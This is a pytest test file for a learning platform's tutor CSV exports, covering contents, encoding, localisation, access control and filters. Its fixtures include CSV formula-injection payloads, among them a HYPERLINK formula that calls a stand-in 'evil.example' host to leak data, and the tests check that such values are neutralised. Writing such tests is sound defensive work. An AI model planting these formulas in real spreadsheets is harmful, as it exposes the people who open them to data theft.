"""A run's CSV exports, downloaded by its tutor and read back with the csv module: exactly the
rows of a hand-built cohort, names that cannot turn into formulas, every script intact, the
tutor's language, streamed as it is read, and nothing for anyone but the course's tutors."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

import pytest

from lms.activities import services as activities
from lms.awards import services as awards
from lms.core.extensions import db
from lms.learning.services.pages import complete_unit
from tests.conftest import NOW
from tests.factories import log_in, make_course_tutor, make_learner, make_user

EXPORTS = "/tutor/courses/practice/runs/open/exports"
BOM = b"\xef\xbb\xbf"


def at(day: int, hour: int, minute: int = 0) -> datetime:
    return datetime(2017, 9, day, hour, minute, tzinfo=timezone.utc) if day > 3 else datetime(2017, 10, day, hour, minute, tzinfo=timezone.utc)


FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?leak","Click me")', "+1", "@SUM(1)", "-2"]


@pytest.fixture
def cohort(app, practice):
    """The practice run (two modules; Basics holds the quiz and a reflection) with:

    - Ada, enrolled 26 Sept 08:00: read Reading only on the 27th (09:00), failed the quiz on the 28th
      (10:15, 50 %), passed it on the 29th (11:30, 100 %) and wrote her reflection: Basics and the
      course completed at 11:30, with their badges; the Basics badge revoked on 2 Oct;
    - Zoë, enrolled 30 Sept 12:00, who read the first page of Reading only on 1 Oct 07:45;
    - four learners whose names look like formulas, enrolled now, who did nothing."""
    ada = make_learner("practice", now=at(26, 8), name="Ada Lovelace", email="ada@example.org")
    complete_unit(ada, "practice", "reading-only", "first-page", now=at(27, 9))
    complete_unit(ada, "practice", "reading-only", "second-page", now=at(27, 9))
    complete_unit(ada, "practice", "basics", "the-only-page", now=at(28, 10, 15))
    activities.submit_quiz(ada, "practice", "basics", "check", answers=[[1], [0, 1]], attempt_number=1, now=at(28, 10, 15))
    db.session.commit()
    activities.submit_quiz(ada, "practice", "basics", "check", answers=[[0], [0, 1]], attempt_number=2, now=at(29, 11, 30))
    activities.submit_reflection(ada, "practice", "basics", "think", text="I learned that the sky is blue.", now=at(29, 11, 30))
    db.session.commit()
    zoe = make_learner("practice", now=at(30, 12), name="Zoë Ångström-Éluard 李雷", email="zoë@example.org")
    complete_unit(zoe, "practice", "reading-only", "first-page", now=at(1, 7, 45))
    db.session.commit()
    for number, name in enumerate(FORMULA_NAMES):
        make_learner("practice", now=NOW, name=name, email=f"formula{number}@example.org")
    return ada, zoe


def revoke_basics_badge(reason: str = "=1+1 awarded by mistake") -> str:
    from sqlalchemy import select

    from lms.awards.models import Assertion
    from lms.courses.models import BadgeClass

    uid = db.session.scalar(select(Assertion.uid).join(BadgeClass, BadgeClass.id == Assertion.badge_class_id)
                            .where(BadgeClass.slug == "practice-basics"))
    awards.revoke_badge(None, uid, reason=reason, now=at(2, 16))
    db.session.commit()
    return uid


def read_csv(response, delimiter: str = ",") -> list[list[str]]:
    body = response.get_data()
    assert body.startswith(BOM), "Excel needs the byte order mark to read UTF-8"
    return list(csv.reader(io.StringIO(body[len(BOM):].decode("utf-8"), newline=""), delimiter=delimiter))


@pytest.fixture
def tutor_client(app, practice):
    client = app.test_client()
    make_course_tutor("practice", now=NOW, email="tess@example.org", client=client)
    return client


def test_progress_has_one_row_per_learner_with_each_module_completed_in_utc(cohort, tutor_client):
    response = tutor_client.get(f"{EXPORTS}/progress.csv?separator=comma")
    assert response.status_code == 200
    assert read_csv(response) == [
        ["Name", "E-mail", "Enrolled (UTC)", "Last active (UTC)", "Modules completed", "Completed: Basics (UTC)",
         "Completed: Reading only (UTC)", "Course completed (UTC)"],
        ["Ada Lovelace", "ada@example.org", "2017-09-26 08:00:00", "2017-09-29 11:30:00", "2", "2017-09-29 11:30:00",
         "2017-09-27 09:00:00", "2017-09-29 11:30:00"],
        ["Zoë Ångström-Éluard 李雷", "zoë@example.org", "2017-09-30 12:00:00", "2017-10-01 07:45:00", "0", "", "", ""],
        ["'" + FORMULA_NAMES[0], "formula0@example.org", "2017-10-03 10:00:00", "", "0", "", "", ""],
        ["'+1", "formula1@example.org", "2017-10-03 10:00:00", "", "0", "", "", ""],
        ["'@SUM(1)", "formula2@example.org", "2017-10-03 10:00:00", "", "0", "", "", ""],
        ["'-2", "formula3@example.org", "2017-10-03 10:00:00", "", "0", "", "", ""],
    ]


def test_quiz_results_have_one_row_per_learner_and_quiz(cohort, tutor_client):
    rows = read_csv(tutor_client.get(f"{EXPORTS}/quizzes.csv?separator=comma"))
    assert rows[:3] == [
        ["Name", "E-mail", "Module", "Quiz", "Best score (%)", "Attempts", "Passed", "Last attempt (UTC)"],
        ["Ada Lovelace", "ada@example.org", "Basics", "Check your understanding", "100", "2", "yes", "2017-09-29 11:30:00"],
        ["Zoë Ångström-Éluard 李雷", "zoë@example.org", "Basics", "Check your understanding", "", "0", "", ""],
    ]
    assert [row[0] for row in rows[3:]] == ["'" + FORMULA_NAMES[0], "'+1", "'@SUM(1)", "'-2"]
    assert {tuple(row[2:]) for row in rows[3:]} == {("Basics", "Check your understanding", "", "0", "", "")}


def test_badges_issued_with_revocations_and_a_reason_that_cannot_be_a_formula(cohort, tutor_client):
    uid = revoke_basics_badge()
    rows = read_csv(tutor_client.get(f"{EXPORTS}/badges.csv?separator=comma"))
    assert rows[0] == ["Assertion id", "Badge", "Learner", "E-mail (as issued)", "Issued (UTC)", "Revoked (UTC)",
                       "Reason for revoking"]
    assert sorted(rows[1:]) == sorted([
        [uid, "Practice Basics", "Ada Lovelace", "ada@example.org", "2017-09-29 11:30:00", "2017-10-02 16:00:00",
         "'=1+1 awarded by mistake"],
        [rows[1][0] if rows[1][1] == "Practice Graduate" else rows[2][0], "Practice Graduate", "Ada Lovelace",
         "ada@example.org", "2017-09-29 11:30:00", "", ""],
    ])


def test_the_download_is_streamed_as_an_attachment_named_after_the_run_kind_and_day(cohort, tutor_client):
    response = tutor_client.get(f"{EXPORTS}/quizzes.csv")
    assert response.is_streamed
    assert response.headers["Content-Disposition"] == 'attachment; filename="practice-open-quizzes-2017-10-03.csv"'
    assert response.mimetype == "text/csv" and response.mimetype_params["charset"] == "utf-8"
    assert "no-store" in response.headers["Cache-Control"]
    assert response.get_data().startswith(BOM + b'"Name","E-mail"')


def test_every_cell_is_quoted_so_a_semicolon_in_a_name_cannot_open_a_cell(app, practice, tutor_client):
    make_learner("practice", now=NOW, name="Eve;=1+1", email="eve@example.org")
    body = tutor_client.get(f"{EXPORTS}/progress.csv?separator=semicolon").get_data().decode("utf-8")
    assert '"Eve;=1+1";"eve@example.org"' in body
    assert read_csv(tutor_client.get(f"{EXPORTS}/progress.csv?separator=semicolon"), ";")[1][:2] == ["Eve;=1+1", "eve@example.org"]


def test_a_french_tutor_gets_french_column_names_and_semicolons(cohort, app):
    client = app.test_client()
    tutor = make_course_tutor("practice", now=NOW, email="francoise@example.org", name="Françoise")
    tutor.language = "fr"
    db.session.commit()
    log_in(client, tutor.email)
    rows = read_csv(client.get(f"{EXPORTS}/progress.csv"), ";")
    assert rows[0] == ["Nom", "E-mail", "Inscription (UTC)", "Dernière activité (UTC)", "Modules terminés",
                       "Terminé : Basics (UTC)", "Terminé : Reading only (UTC)", "Cours terminé (UTC)"]
    assert rows[1][:4] == ["Ada Lovelace", "ada@example.org", "2017-09-26 08:00:00", "2017-09-29 11:30:00"]
    quizzes = read_csv(client.get(f"{EXPORTS}/quizzes.csv"), ";")
    assert quizzes[0][4:7] == ["Meilleur score (%)", "Tentatives", "Réussi"] and quizzes[1][6] == "oui"
    assert read_csv(client.get(f"{EXPORTS}/quizzes.csv?separator=comma"))[1][6] == "oui"  # the tutor's choice wins


def test_the_exports_page_offers_each_export_with_the_readers_separator(cohort, tutor_client):
    page = tutor_client.get(EXPORTS)
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    for kind in ("progress", "quizzes", "reviews", "badges"):
        assert f'formaction="{EXPORTS}/{kind}.csv"' in html
    assert 'id="separator-comma" name="separator" value="comma" checked' in html
    assert "Learners' progress" in html and "Badges issued" in html


@pytest.mark.parametrize("kind", ["progress", "quizzes", "reviews", "badges"])
def test_a_tutor_of_another_course_a_learner_and_a_stranger_get_not_found(app, cohort, peer_course, kind):
    other = app.test_client()
    make_course_tutor("peer", now=NOW, email="otto@example.org", client=other)
    learner = app.test_client()
    log_in(learner, "ada@example.org")
    for client in (other, learner):
        assert client.get(f"{EXPORTS}/{kind}.csv").status_code == 404
        assert client.get(EXPORTS).status_code == 404
    assert app.test_client().get(f"{EXPORTS}/{kind}.csv").status_code == 302  # to log in


def test_an_admin_downloads_and_an_unknown_run_is_not_found(app, cohort):
    client = app.test_client()
    admin = make_user(email="root@example.org", name="Root", now=NOW)
    admin.is_admin = True
    db.session.commit()
    log_in(client, admin.email)
    assert len(read_csv(client.get(f"{EXPORTS}/progress.csv?separator=comma"))) == 7
    assert client.get("/tutor/courses/practice/runs/nope/exports/progress.csv").status_code == 404
    assert client.get(f"{EXPORTS}/grades.csv").status_code == 404


def test_an_odd_separator_is_ignored(cohort, tutor_client):
    response = tutor_client.get(f"{EXPORTS}/progress.csv?separator=%00tab")
    assert response.status_code == 200 and len(read_csv(response)) == 7


def test_each_download_costs_the_same_statements_for_3_and_120_learners(app, practice, tutor_client, count_queries):
    def costs() -> dict[str, int]:
        found = {}
        for name in ("progress", "quizzes", "reviews", "badges", "progress.csv?status=behind&q=a"):
            with count_queries() as statements:
                tutor_client.get(f"{EXPORTS}/{name if '?' in name else name + '.csv'}").get_data()
            found[name] = len(statements)
        return found

    for number in range(3):
        make_learner("practice", now=NOW, email=f"few{number}@example.org")
    few = costs()
    for number in range(117):
        make_learner("practice", now=NOW, email=f"many{number}@example.org")
    assert costs() == few
    # the tutor, the run, may they teach it, the modules or rubrics when the columns need them, the rows
    assert few == {"progress": 5, "quizzes": 4, "reviews": 5, "badges": 4, "progress.csv?status=behind&q=a": 6}


def test_the_learner_filters_apply_to_every_export_and_name_the_file(cohort, tutor_client):
    revoke_basics_badge()
    waiting = tutor_client.get(f"{EXPORTS}/progress.csv?separator=comma&status=not_started")
    assert waiting.headers["Content-Disposition"] == 'attachment; filename="practice-open-progress-not-started-2017-10-03.csv"'
    assert [row[0] for row in read_csv(waiting)[1:]] == ["'" + name for name in FORMULA_NAMES]
    for kind, rows in (("progress", 1), ("quizzes", 1), ("badges", 2)):
        found = tutor_client.get(f"{EXPORTS}/{kind}.csv?separator=comma&q=LOVELACE&status=completed")
        assert "-completed-search-2017-10-03.csv" in found.headers["Content-Disposition"]
        assert {row[2 if kind == "badges" else 0] for row in read_csv(found)[1:]} == {"Ada Lovelace"}
        assert len(read_csv(found)) == rows + 1
    assert read_csv(tutor_client.get(f"{EXPORTS}/badges.csv?q=nobody-at-all"))[1:] == []


def test_the_page_keeps_the_filter_it_was_opened_with(cohort, tutor_client):
    html = tutor_client.get(f"{EXPORTS}?q=Zo%C3%AB&status=inactive").get_data(as_text=True)
    assert 'name="q" value="Zoë"' in html and '<option value="inactive" selected>' in html


def test_an_unenrolled_learner_leaves_the_learner_exports_but_their_badges_stay(cohort, tutor_client):
    from lms.roster.services.learners import unenrol_learner
    from tests.factories import make_course_tutor as tutor_of

    ada, _ = cohort
    unenrol_learner(tutor_of("practice", now=NOW, email="tutor2@example.org"), "practice", "open", ada.id, now=NOW)
    db.session.commit()
    for kind in ("progress", "quizzes"):
        assert "Ada Lovelace" not in {row[0] for row in read_csv(tutor_client.get(f"{EXPORTS}/{kind}.csv?separator=comma"))}
    badges = read_csv(tutor_client.get(f"{EXPORTS}/badges.csv?separator=comma"))
    assert {row[2] for row in badges[1:]} == {"Ada Lovelace"} and len(badges) == 3
